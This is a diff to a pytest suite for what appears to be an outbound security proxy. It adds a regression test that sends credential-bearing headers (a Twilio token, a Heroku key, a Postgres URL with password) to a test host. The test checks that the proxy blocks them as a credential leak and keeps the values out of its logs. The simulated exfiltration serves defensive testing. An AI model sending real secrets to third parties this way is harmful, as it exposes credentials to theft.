@@ -108,3 +108,22 @@ def test_outbound_injection_to_another_agent_when_asked(detect_proxy, detect_up)
         r = s.post(f"https://example.test/t/{tag}/a2a", data=json.dumps(A2A_MESSAGE), timeout=20,
                    headers={"content-type": "application/json"})
     assert r.status_code == 200, "off by default"
+
+
+@pytest.mark.parametrize("header,value", [
+    ("X-Twilio-Auth-Token", "9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
+    ("X-Heroku-Api-Key", "2f6b1c9e-8d4a-4b7e-9c3f-5a1d7e0b6c42"),
+    ("X-Database-Url", "postgres://app:s3cr3t-pass-91@db.internal:5432/prod"),
+])
+def test_a_header_named_for_its_credential_is_a_leak(detect_proxy, detect_up, header, value):
+    """Regression: credentials in headers whose name says what they are, to a third party."""
+    p = detect_proxy()
+    tag = detect_up.new_tag()
+    with requests_session(p) as s:
+        r = s.get(f"https://example.test/t/{tag}", headers={header: value}, timeout=20)
+    assert r.status_code == 403 and r.headers["x-airlock-block-reason"] == "credential-leak", r.text
+    t = wait_threats(p, lambda t: t.get("threat_type") == "EXFIL")[0]
+    assert t["location"] == f"request header {header.lower()}", t
+    from records import log_text
+    text = log_text(p, "threats.jsonl") + log_text(p, "flows.jsonl") + p.stderr_text()
+    assert value not in text
